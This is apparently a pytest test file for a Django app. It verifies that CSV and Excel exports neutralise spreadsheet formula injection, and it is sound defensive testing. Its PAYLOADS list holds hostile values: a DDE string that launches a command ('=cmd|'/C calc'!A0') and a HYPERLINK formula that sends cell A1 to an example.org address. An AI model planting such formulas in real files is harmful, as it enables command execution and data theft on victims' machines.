"""R15: no text of the product becomes a formula in any of its exports.

Every payload is put into a name, a description and the rest that people write; each file is read
back by other means than it was written by.
"""

import csv
from collections.abc import Callable, Iterator
from io import StringIO

import pytest

from ppm.core.models import AuditEvent, CostEntry, JobRow, User
from ppm.core.spreadsheet import harmless
from tests.factories import START, make_cost, make_job, make_project, make_risk, make_user
from tests.jobs.working import cells_of, exported, formulas_in
from tests.pages.conftest import signed_in

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '="a"&"b"',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"click")',
    "\uff1d1+1",
    "\uff0b1\uff0b1",
    "  =1+1",
]
SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20\t\r\n")

pytestmark = pytest.mark.django_db


@pytest.fixture
def administrator() -> User:
    """Return somebody who exports what others wrote: every payload, wherever text is written."""
    user = make_user(superuser=True)
    for number, payload in enumerate(PAYLOADS):
        project = make_project(code=f"P{number}", name=payload, description=payload)
        make_risk(project, title=payload)
        make_cost(project, 100, START, category=payload, description=payload, recorded_by=user)
    return user


def page(user: User, address: str) -> bytes:
    """Download what a page offers."""
    answer = signed_in(user).get(address)
    assert answer.status_code == 200
    return answer.content


def rows_of_a_job(user: User) -> bytes:
    """Download the reasons of a job that took nothing."""
    job = make_job(user)
    rows = [JobRow(job=job, row=2, column=text, reason=text) for text in PAYLOADS]
    JobRow.objects.bulk_create(rows)
    return page(user, f"/jobs/{job.pk}/rows.csv")


def costs(user: User) -> bytes:
    """Download the costs of each project, one after the other."""
    codes = CostEntry.objects.values_list("component__code", flat=True)
    return b"".join(page(user, f"/components/{code}/costs.csv") for code in codes)


def audit_trail(user: User) -> bytes:
    """Download what was changed, all of it."""
    chosen = AuditEvent.objects.filter(table_name="core_component").values_list("pk", flat=True)
    data = {"action": "download", "_selected_action": list(chosen)}
    return signed_in(user).post("/admin/core/auditevent/", data).content


CSV_FILES: dict[str, Callable[[User], bytes]] = {
    "projects": lambda user: exported(user, "projects"),
    "risks": lambda user: exported(user, "risks"),
    "costs": lambda user: exported(user, "costs"),
    "rows of a job": rows_of_a_job,
    "costs of a component": costs,
    "changes of a component": lambda user: page(user, "/components/P0/changes.csv"),
    "audit trail": audit_trail,
}


def computed(content: bytes) -> Iterator[str]:
    """Find the cells of a CSV file that a spreadsheet would compute: no number, and not quoted."""
    for line in csv.reader(StringIO(content.decode("utf-8-sig"), newline="")):
        for cell in line:
            if cell.lstrip().startswith(SIGNS) or cell.startswith(SIGNS):
                try:
                    float(cell)
                except ValueError:
                    yield cell


@pytest.mark.parametrize("name", CSV_FILES)
def test_no_cell_of_a_csv_file_is_computed(name: str, administrator: User) -> None:
    content = CSV_FILES[name](administrator)
    assert [*computed(content)] == []
    # Of the changes of one component only its own texts are told.
    for payload in PAYLOADS[: 1 if name == "changes of a component" else None]:
        assert f"'{payload}".replace('"', '""').encode() in content, payload


@pytest.mark.parametrize("collection", ["projects", "risks", "costs"])
def test_no_cell_of_a_workbook_is_computed(collection: str, administrator: User) -> None:
    content = exported(administrator, collection, "", "xlsx")
    assert formulas_in(content) == 0
    cells = [cell for row in cells_of(content) for cell in row]
    for payload in PAYLOADS:
        # As it was written: a workbook knows what is text.
        assert payload in cells or payload.replace("\r", "\n") in cells or payload == "\r=1+1"


def test_negative_amounts_stay_numbers(administrator: User) -> None:
    make_cost(make_project(code="BACK"), -50, START)
    content = exported(administrator, "costs", "component__code=BACK")
    assert b",-50.0000," in content


@pytest.mark.parametrize("text", ["Plan", "a=b", "2 + 2", "'=1", "10:30", "…"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert harmless(text) == text
